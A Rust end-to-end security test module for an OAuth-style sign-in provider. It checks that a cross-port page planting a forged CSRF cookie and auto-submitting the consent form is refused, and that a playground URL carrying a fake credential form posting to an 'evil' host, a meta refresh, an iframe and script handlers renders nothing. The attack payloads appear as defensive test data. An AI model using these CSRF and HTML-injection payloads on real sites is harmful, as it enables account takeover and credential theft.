//! A browser as the attacker (issue 13, items 1 and 3): a page on another port of the same host
//! plants a cookie and auto-submits the consent form (refused, no grant made); and a
//! Playground blank-page URL carrying a fake form, a meta refresh and friends (nothing of it
//! renders, the control of a genuine snippet still does).

use serde_json::{Value as Json, json};
use std::time::Duration;
use wl_e2e::harness::Case;
use wl_e2e::{Browser, E2eError, Env, Probe, Result, check, http, static_site};

use crate::attack;

/// This module's cases, in the order they run.
pub fn cases() -> Vec<Case> {
    wl_e2e::cases![
        attack::a_page_on_another_port_cannot_submit_the_consent_form,
        attack::a_blank_page_url_cannot_put_a_form_or_a_refresh_on_the_site,
    ]
}

const WAIT: Duration = Duration::from_secs(15);

/// The person attacked: a demo person no other case signs in (the cases share one server), so
/// "no app connected" means this case's forged form made no grant.
const VICTIM: &str = "victor";

/// The demo app's authorization request, as an attacker can write it (all of it is public).
fn authorize_query(site: &str) -> String {
    url::form_urlencoded::Serializer::new(String::new())
        .append_pair("response_type", "code")
        .append_pair("client_id", "wl-demo")
        .append_pair("redirect_uri", &format!("{site}/callback.html"))
        .append_pair("scope", "wl.contacts wl.offline_access")
        .append_pair("state", "attack")
        .append_pair("code_challenge", &"E".repeat(43))
        .append_pair("code_challenge_method", "S256")
        .finish()
}

/// What the current page is: its `<h1>`, text, and URL.
async fn page(b: &Browser) -> Result<Json> {
    b.js(
        "const h = document.querySelector('h1');
         return { h1: h ? h.textContent.trim() : null, url: location.href,
                  text: document.body ? document.body.innerText : '',
                  ready: document.readyState };",
        vec![],
    )
    .await
}

/// Waits until the current window's `<h1>` is `title`; the page.
async fn wait_heading(b: &Browser, title: &str) -> Result<Json> {
    b.wait_for(&format!("a page headed {title:?}"), WAIT, || async {
        let v = page(b).await?;
        Ok(
            if v["h1"] == json!(title) && v["ready"] == json!("complete") {
                Probe::Done(v)
            } else {
                Probe::NotYet(format!("{} at {}", v["h1"], v["url"]))
            },
        )
    })
    .await
}

async fn click(b: &Browser, css: &str) -> Result<()> {
    b.find(css).await?.click().await?;
    Ok(())
}

/// Saves the current window at 1280 and 390 px in `target/screenshots/attack/{name}-{w}.png`.
async fn screenshots(b: &Browser, name: &str) -> Result<()> {
    b.screenshots_at("attack", name, &[(1280, 900), (390, 844)])
        .await
}

/// Victor is signed in at the provider and has the consent screen of the demo app open. A page
/// on another port of 127.0.0.1 (the same site for cookies: ports do not separate them) plants
/// its own `wl_csrf` cookie (a second one, on a longer path, so the browser sends it first) and
/// auto-submits Allow with that value. The provider refuses it (the `Origin` is the attacker's,
/// and the value is not a token it issued for his session) and no grant is made. His own click
/// on Allow still works.
pub async fn a_page_on_another_port_cannot_submit_the_consent_form(env: &Env) -> Result<()> {
    let server = env.server()?;
    let query = authorize_query(&server.site);
    let b = env.browser().await?;
    b.goto(&format!("{}/authorize?{query}", server.provider))
        .await?;
    b.find("input[name=username]")
        .await?
        .send_keys(VICTIM)
        .await?;
    b.find("input[type=password]")
        .await?
        .send_keys(wl_e2e::flow::PASSWORD)
        .await?;
    click(&b, "form[action='/signin'] button[type=submit]").await?;
    let consent = b
        .wait_for("the consent screen", WAIT, || async {
            let v = page(&b).await?;
            let text = v["text"].as_str().unwrap_or_default();
            Ok(if text.contains("Remember this connection") {
                Probe::Done(v)
            } else {
                Probe::NotYet(format!("{} at {}", v["h1"], v["url"]))
            })
        })
        .await?;

    // The attacker's page, on another port of the same host.
    let port = http::free_port()?;
    let attacker = format!("http://127.0.0.1:{port}");
    let root = tempfile::Builder::new()
        .prefix("wl-e2e-attacker-")
        .tempdir()?;
    let chosen = "A".repeat(43);
    let esc = |s: &str| s.replace('&', "&amp;").replace('"', "&quot;");
    std::fs::write(
        root.path().join("index.html"),
        format!(
            "<!doctype html><html lang=\"en\"><title>You won!</title>\n\
             <form id=\"f\" method=\"post\" action=\"{provider}/authorize/decision\">\n\
             <input type=\"hidden\" name=\"csrf\" value=\"{chosen}\">\n\
             <input type=\"hidden\" name=\"request\" value=\"{request}\">\n\
             <input type=\"hidden\" name=\"decision\" value=\"allow\">\n\
             <input type=\"hidden\" name=\"remember\" value=\"1\">\n</form>\n\
             <script src=\"attack.js\"></script>\n",
            provider = server.provider,
            request = esc(&query),
        ),
    )?;
    std::fs::write(
        root.path().join("attack.js"),
        format!(
            "document.cookie = 'wl_csrf={chosen}; path=/authorize';\n\
             document.cookie = 'wl_csrf={chosen}; path=/';\n\
             window.planted = document.cookie;\n\
             document.getElementById('f').submit();\n"
        ),
    )?;
    let _attacker_site = static_site::serve(root.path(), port, false, "index.html")?;
    b.goto(&format!("{attacker}/index.html")).await?;
    let refused = wait_heading(&b, "This form came from another site").await?;
    let text = refused["text"].as_str().unwrap_or_default();
    check(
        text.contains("csrf_origin_refused")
            && refused["url"]
                .as_str()
                .unwrap_or_default()
                .starts_with(&server.provider),
        format!("the provider's refusal page, naming its code: {refused}"),
    )?;
    screenshots(&b, "csrf-refused").await?;

    // No grant: the connected-apps page lists nothing.
    b.goto(&format!("{}/consent", server.provider)).await?;
    let apps = wait_heading(&b, "Connected apps").await?;
    check(
        apps["text"]
            .as_str()
            .unwrap_or_default()
            .contains("haven't connected any apps"),
        format!("no app should be connected after the forged form: {apps}"),
    )?;

    // Victor's own Allow, on the provider's page: granted, back to the site.
    b.goto(&format!("{}/authorize?{query}", server.provider))
        .await?;
    b.wait_for("the consent screen again", WAIT, || async {
        let v = page(&b).await?;
        Ok(
            if v["text"]
                .as_str()
                .unwrap_or_default()
                .contains("Remember this connection")
            {
                Probe::Done(())
            } else {
                Probe::NotYet(v["url"].to_string())
            },
        )
    })
    .await?;
    click(&b, "button[name=decision][value=allow]").await?;
    b.wait_for("the redirect to the site's callback", WAIT, || async {
        let url = b.client.current_url().await?.to_string();
        Ok(if url.starts_with(&server.site) {
            Probe::Done(())
        } else {
            Probe::NotYet(url)
        })
    })
    .await?;
    b.goto(&format!("{}/consent", server.provider)).await?;
    let apps = wait_heading(&b, "Connected apps").await?;
    check(
        apps["text"]
            .as_str()
            .unwrap_or_default()
            .contains("wl-connect demo"),
        format!(
            "Victor's own Allow should connect the demo app: {apps} (consent page was {consent})"
        ),
    )?;
    Ok(())
}

/// `/playground/blank.html#…` builds only what the Playground writes: with a genuine loader tag
/// and a `<wl-signin>`, the control renders; the fake sign-in form, the meta refresh, the
/// iframe, the link, the inline script, the foreign loader and the heading in the same URL
/// do not exist on the page, the control keeps only its own attributes, and the window never
/// leaves the page.
pub async fn a_blank_page_url_cannot_put_a_form_or_a_refresh_on_the_site(env: &Env) -> Result<()> {
    let server = env.server()?;
    let port = http::free_port()?;
    let evil = format!("http://127.0.0.1:{port}");
    let snippet = format!(
        "<script src=\"{site}/wl.js\"\n        data-client-id=\"wl-demo\"\n        \
         data-authority=\"{provider}\"\n        data-scope=\"wl.signin wl.basic\"></script>\n\
         <wl-signin theme=\"dark\" onclick=\"document.title='pwned'\" style=\"position:fixed\"><b>inner</b></wl-signin>\n\
         <h1>Your session expired</h1>\n\
         <form action=\"{evil}/steal\" method=\"post\"><input name=\"username\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>\n\
         <meta http-equiv=\"refresh\" content=\"0;url={evil}/\">\n\
         <a id=\"lure\" href=\"{evil}/\">Continue</a>\n\
         <iframe src=\"{evil}/\"></iframe>\n\
         <img src=\"x\" onerror=\"document.title='pwned'\">\n\
         <svg><a href=\"{evil}/\"><text>svg</text></a></svg>\n\
         <script>document.title = 'pwned';</script>\n\
         <script src=\"{evil}/wl.js\" data-client-id=\"wl-demo\"></script>\n\
         <script src=\"{site}/wl.js\" data-authority=\"{evil}\"></script>\n\
         <wl-evil></wl-evil>\n",
        site = server.site,
        provider = server.provider,
    );
    let b = env.browser().await?;
    b.goto(&server.site_url("/healthz")).await?;
    let url = b
        .js(
            "return location.origin + '/playground/blank.html#' + encodeURIComponent(arguments[0]);",
            vec![json!(snippet)],
        )
        .await?;
    let url = url
        .as_str()
        .ok_or_else(|| E2eError::Check(format!("no URL: {url}")))?
        .to_owned();
    b.goto(&url).await?;
    // The genuine part runs: the loader loads and the control draws its button.
    b.wait_shadow("wl-signin", "button", WAIT).await?;
    let seen = b
        .js(
            "return {
               url: location.href,
               title: document.title,
               injected: [...document.querySelectorAll(
                 'form, input, button, meta[http-equiv=refresh], a, iframe, img, svg, h1, b, wl-evil')]
                 .map(e => e.outerHTML),
               scripts: [...document.scripts].map(s => [s.getAttribute('src'),
                 [...s.attributes].map(a => a.name).sort()]),
               signin: [...document.querySelector('wl-signin').attributes].map(a => [a.name, a.value]),
               text: document.body.innerText,
             };",
            vec![],
        )
        .await?;
    check(
        seen["url"] == json!(url),
        format!("the window should stay on the blank page: {}", seen["url"]),
    )?;
    check(
        seen["title"] != json!("pwned"),
        format!("no injected script ran: {seen}"),
    )?;
    check(
        seen["injected"] == json!([]),
        format!(
            "nothing injected should exist on the page: {}",
            seen["injected"]
        ),
    )?;
    check(
        seen["signin"] == json!([["theme", "dark"]]),
        format!(
            "the control keeps only its own attributes: {}",
            seen["signin"]
        ),
    )?;
    check(
        seen["scripts"]
            == json!([
                ["blank.js", ["src"]],
                [
                    format!("{}/wl.js", server.site),
                    ["data-authority", "data-client-id", "data-scope", "src"]
                ]
            ]),
        format!(
            "only blank.js and the genuine loader tag: {}",
            seen["scripts"]
        ),
    )?;
    check(
        !seen["text"]
            .as_str()
            .unwrap_or_default()
            .contains("session expired"),
        format!("no injected text: {}", seen["text"]),
    )?;
    let log = b.console_log().await;
    check(
        log.iter()
            .any(|l| l.contains("left out what its snippets never contain")),
        format!("the page says in the console what it left out: {log:?}"),
    )?;
    screenshots(&b, "blank-injection").await?;
    Ok(())
}
